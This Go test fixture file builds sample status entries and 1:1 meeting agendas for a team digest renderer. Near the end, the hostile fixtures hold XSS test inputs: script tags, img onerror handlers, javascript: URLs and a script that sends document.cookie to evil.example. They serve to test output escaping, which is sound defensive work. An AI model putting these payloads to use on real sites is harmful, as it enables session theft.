package digest

import (
	"fmt"
	"strings"
	"time"

	"github.com/preread/preread"
	"github.com/preread/preread/internal/mailtest"
)

// The fixtures: the Platform team in Berlin, managed by Carol; Alice works
// from New York. Every golden case is built from these.
var (
	berlin  = mailtest.Zone("Europe/Berlin")
	newYork = mailtest.Zone("America/New_York")

	carol = person("carol@corp.example", "Carol Danvers", berlin)
	alice = person("alice@corp.example", "Alice Liddell", newYork)
	bob   = person("bob@corp.example", "Bob Builder", berlin)
	dan   = person("dan@corp.example", "Dan Brown", berlin)
	erin  = person("erin@corp.example", "Erin Hale", berlin)

	platform = preread.Team{
		Name: "Platform", Manager: carol.Email, TimeZone: berlin,
		Members: []string{alice.Email, bob.Email, dan.Email, erin.Email},
	}
	tue24 = preread.Date{Year: 2026, Month: time.November, Day: 24}
)

func person(email, name string, loc *time.Location) preread.Person {
	return preread.Person{Email: email, Name: name, TimeZone: loc, Workdays: preread.DefaultWorkdays, Active: true}
}

// at is a Berlin wall-clock instant in November 2026.
func at(day, hour, minute int) time.Time {
	return time.Date(2026, time.November, day, hour, minute, 0, 0, berlin)
}

// entry is a status entry of p on day d of November 2026. With sections, text is
// what the whole reply said.
func entry(p preread.Person, d int, created time.Time, text, yesterday, today, blockers string) preread.StatusEntry {
	if text == "" {
		text = strings.TrimSpace("Yesterday: " + yesterday + "\nToday: " + today + "\nBlockers: " + blockers)
	}
	return preread.StatusEntry{
		Person: p.Email, Date: preread.Date{Year: 2026, Month: time.November, Day: d},
		Text: text, Yesterday: yesterday, Today: today, Blockers: blockers,
		MessageID: fmt.Sprintf("<%s-%d@corp.example>", p.Email, d), Created: created,
	}
}

// fullDay is a day when all four members replied, two of them blocked.
func fullDay() TeamDay {
	return TeamDay{Team: platform, Date: tue24, Members: []Member{
		{Person: alice, BlockerStreak: 1, Entries: []preread.StatusEntry{entry(alice, 24, at(24, 15, 5), "",
			"Finished the IMAP reconnect work and the tests for a crash between commit and move.",
			"Pairing with Bob on the outbox worker; then reviewing Dan's migration PR.",
			"Waiting for the staging database credentials from Infra, so the migration tests can't run.")}},
		{Person: bob, Entries: []preread.StatusEntry{
			entry(bob, 24, at(24, 9, 12), "Mostly outbox work today:\n- retry with back-off\n- park permanent failures, with the SMTP reply code and the text the relay sent back so that support can read it\n\nAlso on call until Thursday.", "", "", ""),
			entry(bob, 24, at(24, 14, 40), "Update: back-off is merged.", "", "", ""),
		}},
		{Person: dan, BlockerStreak: 2, Entries: []preread.StatusEntry{entry(dan, 24, at(24, 9, 30), "",
			"Migration PR review comments.",
			"Schema version 4, and a test that upgrades the frozen first schema.",
			"The CI runners are out of disk again.")}},
		{Person: erin, Entries: []preread.StatusEntry{entry(erin, 24, at(24, 10, 1),
			"Wrote the runbook for rotating tokens. Today I'm on the health and metrics endpoints, then the demo command.", "", "", "")}},
	}}
}

// emptyDay is a day when everybody was asked and nobody has replied yet.
func emptyDay() TeamDay {
	return TeamDay{Team: platform, Date: tue24, Members: []Member{
		{Person: alice, Asked: true}, {Person: bob, Asked: true}, {Person: dan, Asked: true}, {Person: erin, Asked: true},
	}}
}

// awayDay is a day when Bob is away, Dan has not replied and nobody is blocked.
func awayDay() TeamDay {
	return TeamDay{Team: platform, Date: tue24, Members: []Member{
		{Person: alice, Entries: []preread.StatusEntry{entry(alice, 24, at(24, 15, 5), "", "Reconnect tests.", "Outbox worker.", "")}},
		{Person: bob, Away: true},
		{Person: dan, Asked: true},
		{Person: erin, Entries: []preread.StatusEntry{entry(erin, 24, at(24, 10, 1), "Health endpoint done; metrics next.", "", "", "")}},
	}}
}

// streakDay is a day when Dan reports a blocker for the third workday running.
func streakDay() TeamDay {
	return TeamDay{Team: platform, Date: tue24, Members: []Member{
		{Person: alice, Entries: []preread.StatusEntry{entry(alice, 24, at(24, 15, 5), "", "Reconnect tests.", "Outbox worker.", "")}},
		{Person: dan, BlockerStreak: 3, Entries: []preread.StatusEntry{entry(dan, 24, at(24, 9, 30), "",
			"Tried again to get a CI runner with more disk.", "Local runs only.",
			"Still no CI runner with enough disk: Infra ticket INFRA-812 has no owner yet.")}},
	}}
}

// laterDay is a day when Dan was blocked in the morning and wrote "no
// longer blocked" after lunch; Alice replaced her morning's blocker with
// another one; Bob's update says nothing of blockers, so his morning's
// stands; Erin's "Blockers: none" clears hers.
func laterDay() TeamDay {
	return TeamDay{Team: platform, Date: tue24, Members: []Member{
		{Person: alice, BlockerStreak: 1, Entries: []preread.StatusEntry{
			entry(alice, 24, at(24, 15, 5), "", "Reconnect tests.", "Outbox worker.", "Waiting for staging credentials."),
			entry(alice, 24, at(24, 18, 30), "", "", "Got the credentials; migration tests next.", "The staging database is down."),
		}},
		{Person: bob, BlockerStreak: 2, Entries: []preread.StatusEntry{
			entry(bob, 24, at(24, 9, 12), "", "Back-off.", "Parking failures.", "Code review from Infra."),
			entry(bob, 24, at(24, 14, 40), "Update: back-off is merged.", "", "", ""),
		}},
		{Person: dan, Entries: []preread.StatusEntry{
			entry(dan, 24, at(24, 9, 30), "", "Migration PR.", "Schema version 4.", "The CI runners are out of disk again."),
			entry(dan, 24, at(24, 13, 2), "Infra cleaned the runners: no longer blocked. Schema version 4 is green.", "", "", ""),
		}},
		{Person: erin, Entries: []preread.StatusEntry{
			entry(erin, 24, at(24, 10, 1), "", "Runbook.", "Metrics.", "Laptop in repair."),
			entry(erin, 24, at(24, 16, 45), "Yesterday: metrics\nToday: the demo command\nBlockers: none", "metrics", "the demo command", ""),
		}},
	}}
}

// longEntryDay has one entry far over the length a digest shows.
func longEntryDay() TeamDay {
	para := "The quick brown fox jumps over the lazy dog while the outbox retries with back-off. "
	return TeamDay{Team: platform, Date: tue24, Members: []Member{
		{Person: erin, Entries: []preread.StatusEntry{entry(erin, 24, at(24, 10, 1), strings.Repeat(para, 30), "", "", "")}},
	}}
}

// meeting is Carol's 1:1 with Alice on Tue 24 Nov 2026 at 10:00 Berlin time.
func meeting() Meeting {
	return Meeting{
		Pair: preread.Pair{Manager: carol.Email, Report: alice.Email, TimeZone: berlin,
			PrereadTo: preread.PrereadToBoth, Active: true},
		Manager: carol, Report: alice,
		Start: at(24, 10, 0), Last: at(3, 10, 0), Week: 48,
	}
}

// item is an open agenda item of Carol and Alice's pair.
func item(n int, cat preread.Category, from preread.Person, isNew bool, carried int, subject, text string) Item {
	return Item{Number: n, New: isNew, AgendaItem: preread.AgendaItem{
		Manager: carol.Email, Report: alice.Email, From: from.Email, Category: cat,
		Subject: subject, Text: text, State: preread.ItemOpen, Carried: carried,
		Created: at(n, 9, 0),
	}}
}

// fullMeeting has twelve items in every category, some carried over, one
// raised by Carol and one forwarded; three weeks of status; and notes.
func fullMeeting() Meeting {
	m := meeting()
	fwd := item(7, preread.CategoryOffer, alice, true, 0, "Fwd: Migration help wanted",
		"Hi all,\nwe are moving the billing jobs to the new scheduler and need two people\nwho know the old cron setup. About a week of work in December.\n\nPriya")
	fwd.Forwarded = &preread.Forwarded{From: "Priya Natarajan <priya@corp.example>", Date: "Thu, 19 Nov 2026 11:02:00 +0100", Subject: "Migration help wanted"}
	fwd.Note = "I know the old cron setup well. Could I spend a week on this?"
	m.Items = []Item{
		item(1, preread.CategoryGrowth, alice, false, 2, "Conference talk", "I'd like to submit a talk about the IMAP sync to a conference next spring."),
		item(2, preread.CategoryHelp, alice, false, 3, "Staging access", "I still have no access to the staging database; three weeks now."),
		item(3, preread.CategoryFeedback, carol, false, 1, "Feedback from the payments team", "They were happy with the incident write-up; let's go through their two suggestions."),
		item(4, preread.CategoryIdea, alice, false, 2, "Shared runbooks", "What if every team kept its runbooks in one repository?\nWe could review them like code, and on-call would find them in one place."),
		item(5, preread.CategoryOther, alice, false, 1, "", "Parental leave next spring: when should I tell the team?"),
		item(6, preread.CategoryGrowth, alice, true, 0, "Staff engineer path", "What would the next level look like for me, and what is missing?"),
		fwd,
		item(8, preread.CategoryOffer, alice, false, 1, "Mentoring the new hire", "I could be Erin's onboarding buddy."),
		item(9, preread.CategoryFeedback, alice, true, 0, "How did my incident review go?", "How did my incident review go?"),
		item(10, preread.CategoryHelp, alice, true, 0, "Too many meetings", "My Thursdays have five meetings. Can we drop one of the syncs?"),
		item(11, preread.CategoryIdea, alice, true, 0, "Demo day", "A monthly demo day for the whole department."),
		item(12, "", carol, true, 0, "Holiday cover plan", "Who covers on-call between Christmas and New Year?"),
	}
	for d := 4; d <= 23; d++ {
		day := preread.Date{Year: 2026, Month: time.November, Day: d}
		if wd := day.Weekday(); wd == time.Saturday || wd == time.Sunday {
			continue
		}
		blocker := ""
		if d >= 19 {
			blocker = "No access to the staging database yet."
		}
		if d == 10 {
			blocker = "Waiting on the security review of the token rotation."
		}
		today := fmt.Sprintf("Outbox worker, part %d: retries, parking and the metrics that go with them.", d-3)
		m.Status = append(m.Status, entry(alice, d, at(d, 15, 0), "", "Reviews.", today, blocker))
	}
	m.Notes = []preread.Note{
		{Manager: carol.Email, Report: alice.Email, From: carol.Email, Created: at(23, 16, 20),
			Text: "On the staff engineer path: can you bring two examples of work you led end to end?"},
		{Manager: carol.Email, Report: alice.Email, From: alice.Email, Created: at(24, 1, 5),
			Text: "Yes: the IMAP sync rewrite and the outbox.\nI'll bring the design docs."},
	}
	return m
}

// hostileDay is a digest of text written to break things.
func hostileDay() TeamDay {
	team := platform
	team.Name = "R&D <Core>"
	eve := person("eve@corp.example", `Eve <b>"the tester"</b> Maximiliane Aurelia von Hohenzollern-Sigmaringen-Wittelsbach`, berlin)
	return TeamDay{Team: team, Date: tue24, Members: []Member{
		{Person: eve, BlockerStreak: 2, Entries: []preread.StatusEntry{entry(eve, 24, at(24, 9, 0), "",
			"<script>alert(1)</script> and <img src=x onerror=alert(2)>",
			"&amp; &lt;b&gt; is not bold, and \"quotes\" 'stay'. Emoji: 🚀🔥👍🏽 👨‍👩‍👧",
			"</div></td></tr></table><h1>broken?</h1>")}},
		{Person: alice, Entries: []preread.StatusEntry{entry(alice, 24, at(24, 15, 5), hostileRTL, "", "", "")}},
		{Person: bob, Entries: []preread.StatusEntry{entry(bob, 24, at(24, 9, 12), strings.Repeat("x", 5000), "", "", "")}},
	}}
}

// hostileRTL mixes Hebrew, Arabic and English.
const hostileRTL = "שלום! היום אני עובד על הדוח החודשי.\nمرحبا، أعمل اليوم على التقرير الشهري.\nEnglish after: done."

// hostileMeeting is a pre-read of text written to break things.
func hostileMeeting() Meeting {
	m := meeting()
	fwd := item(2, preread.CategoryHelp, alice, true, 0, "Fwd: <img src=x onerror=alert(1)>", "<script>document.location='https://evil.example/?c='+document.cookie</script>\n"+strings.Repeat("y", 5000))
	fwd.Forwarded = &preread.Forwarded{From: `"Mallory" <mallory@evil.example>`, Subject: "<img src=x onerror=alert(1)>"}
	fwd.Note = "javascript:alert(1) &amp; &lt;b&gt;"
	m.Items = []Item{
		item(1, preread.CategoryGrowth, alice, true, 0, "<script>alert(1)</script>", "&amp; &lt;b&gt; 🚀🔥 "+hostileRTL),
		fwd,
	}
	m.Status = []preread.StatusEntry{
		entry(alice, 23, at(23, 15, 0), "", "<b>bold?</b>", "<script>alert(3)</script> "+strings.Repeat("z", 5000), "<style>body{display:none}</style>"),
	}
	m.Notes = []preread.Note{{Manager: carol.Email, Report: alice.Email, From: "<mallory@evil.example>", Created: at(23, 12, 0), Text: hostileRTL}}
	return m
}
